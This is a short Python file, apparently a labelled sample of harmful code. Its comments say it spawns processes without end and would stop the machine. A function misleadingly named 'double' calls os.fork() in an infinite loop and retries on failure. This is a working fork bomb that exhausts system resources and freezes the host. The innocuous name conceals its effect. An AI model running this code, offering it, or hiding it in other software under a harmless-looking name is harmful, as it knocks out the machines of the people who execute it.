# tries: processes without end
# harms: it would stop this machine
import os
import time


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
